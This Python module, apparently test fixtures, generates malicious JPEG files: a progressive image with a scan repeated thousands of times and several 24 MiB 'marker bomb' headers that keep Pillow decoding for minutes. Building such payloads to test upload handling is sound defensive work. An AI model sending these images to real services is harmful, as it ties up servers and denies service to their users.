"""A photo that was made to harm: small on the disk, minutes of work for a decoder."""

import io

from PIL import Image

START_OF_SCAN = b"\xff\xda"
END_OF_IMAGE = b"\xff\xd9"


def poison_jpeg(*, scans: int = 2000, width: int = 8000, height: int = 5000) -> bytes:
    """A progressive JPEG whose last scan is repeated again and again; a decoder obeys each time (here 20 ms)."""
    content = io.BytesIO()
    Image.new("RGB", (width, height), "seagreen").save(content, "JPEG", progressive=True)
    raw = content.getvalue().removesuffix(END_OF_IMAGE)
    last_scan = raw[raw.rindex(START_OF_SCAN) :]
    return raw + last_scan * scans + END_OF_IMAGE


BOMB_BYTES = 24 * 2**20
# headers that Pillow reads in Python, marker by marker: minutes of a web process under its lock. Each begins with the
# first bytes and repeats the second
MARKER_BOMBS = {
    "fill": (b"\xff\xd8", b"\xff"),
    "rubbish": (b"\xff\xd8", b"\0"),
    "empty segments": (b"\xff\xd8", b"\xff\xe0\x00\x02"),
    "segments behind an end": (b"\xff\xd8\xff\xd9", b"\xff\xe0\x00\x02"),
    "scan without a picture": (b"\xff\xd8\xff\xda\x00\x02", b"\xff"),
    "segments in segments": (b"\xff\xd8", b"\xff\xf0\xff\xff" + b"\xff\xe0\x00\x02" * 16383),
}


def marker_bomb(name: str) -> bytes:
    start, repeated = MARKER_BOMBS[name]
    return start + repeated * (BOMB_BYTES // len(repeated))
